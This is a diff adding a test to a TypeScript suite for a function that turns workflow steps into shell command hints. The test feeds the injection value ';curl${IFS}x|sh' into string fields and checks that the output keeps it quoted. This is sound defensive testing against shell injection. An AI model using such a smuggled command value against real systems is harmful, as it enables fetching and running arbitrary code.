@@ -140,6 +140,23 @@ describe('the words of a step', () => {
     expect(hintText({ next: 'list-metrics', pipeline: 'etl/a b' })).toBe("cdapctl metrics list 'etl/a b'");
   });
 
+  it.each(Object.entries(SAMPLES).filter(([next]) => next !== 'system-parent'))(
+    '%s gives a shell no syntax of a value from elsewhere',
+    (next, all) => {
+      const fixed = new Set(['what', 'how', 'by', 'of', 'after', 'to']);
+      const evil = ';curl${IFS}x|sh';
+      const hostile = (value: unknown, key = ''): unknown => {
+        if (typeof value === 'string' && !fixed.has(key)) return evil;
+        return Array.isArray(value) ? value.map((one: unknown) => hostile(one)) : value;
+      };
+      for (const facts of all) {
+        const own = Object.fromEntries(Object.entries(facts).map(([key, value]) => [key, hostile(value, key)]));
+        const words = hintText({ next, ...own } as unknown as NextStep);
+        expect(words.replace(/'[^']*'/gu, '')).not.toMatch(/\$\{ifs/iu);
+      }
+    },
+  );
+
   it('name the value that is wanted', () => {
     expect(hintText({ next: 'set-argument', n: 2, name: 'version', what: 'one' })).toBe(
       'set one: --set 2.version=VERSION',
